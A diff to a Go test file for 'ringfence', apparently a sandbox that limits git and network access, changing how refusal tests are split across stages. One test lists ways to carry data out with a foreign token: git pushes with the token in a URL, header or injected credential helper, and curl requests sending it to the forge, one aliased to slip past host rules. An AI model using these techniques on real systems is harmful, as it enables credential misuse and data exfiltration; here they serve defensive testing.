@@ -1,13 +1,16 @@
 package broker
 
 import (
+	"maps"
 	"net/http"
 	"os"
 	"path/filepath"
+	"slices"
 	"strings"
 	"testing"
 
 	"ringfence.dev/ringfence/internal/journal"
+	"ringfence.dev/ringfence/test/stage"
 )
 
 const as = "git -c user.name=A -c user.email=a@a.test "
@@ -81,8 +84,12 @@ const branches = `
 
 // What is refused, and git says why. Beside each stands the switch that opens it: with
 // it the same command succeeds, so that it is the rule that refused and nothing else.
+// Both users are refused everything, and share the switches.
 func TestGitRefusals(t *testing.T) {
-	for _, open := range []string{"", "push-default", "force", "delete", "tags", "workflows", "other-repos"} {
+	for i, open := range []string{"", "push-default", "force", "delete", "tags", "workflows", "other-repos"} {
+		if open != "" && !stage.Mine(i) {
+			continue
+		}
 		t.Run("open "+open, func(t *testing.T) {
 			s := begin(t)
 			f := s.forge()
@@ -151,7 +158,7 @@ func (h *held) try(line string) (out string, ok bool) {
 }
 
 // Whoever has a token for the same forge cannot use it from inside to carry something
-// away. On the host it works.
+// away. On the host it works. The users share the ways.
 func TestGitForeignToken(t *testing.T) {
 	s := begin(t)
 	f := s.forge()
@@ -165,7 +172,7 @@ func TestGitForeignToken(t *testing.T) {
 	header := `-c http.extraHeader="Authorization: Basic $(printf mallory:` + attackToken + ` | base64 -w0)"`
 	s.Answer("alias.test", []string{forgeAddr})
 	before := f.refs(dropRepo)
-	for name, argv := range map[string][]string{
+	ways := map[string][]string{
 		"in the address": push("", at),
 		"in a header":    push(header, plain),
 		"by a helper":    push(`-c credential.helper='!echo username=mallory; echo password=`+attackToken+` #'`, plain),
@@ -177,8 +184,12 @@ func TestGitForeignToken(t *testing.T) {
 		"in the clear":   {"curl", "-sS", "-u", "mallory:" + attackToken, "http://" + forgeName + "/" + dropRepo + ".git/info/refs?service=git-receive-pack"},
 		"under a name":   {"curl", "-sSk", "--connect-to", forgeName + ":443:alias.test:443", "-u", "mallory:" + attackToken, plain + "/info/refs?service=git-receive-pack"},
 		"a form":         {"curl", "-sS", "-d", "x", "https://" + forgeName + "/upload?token=" + attackToken},
-	} {
-		r := s.ringfence(append([]string{"run", "--allow-host", "alias.test", "--"}, argv...)...)
+	}
+	for i, name := range slices.Sorted(maps.Keys(ways)) {
+		if !stage.Mine(i) {
+			continue
+		}
+		r := s.ringfence(append([]string{"run", "--allow-host", "alias.test", "--"}, ways[name]...)...)
 		denied := r.recorded(func(j journal.Record) bool { return j.Verdict == journal.Deny })
 		if !denied || r.Status == 0 && !strings.Contains(r.Stdout+r.Stderr, "ringfence") || strings.Contains(r.Stdout, "a page of the forge") {
 			t.Errorf("%s: no refusal: %s", name, r.show())
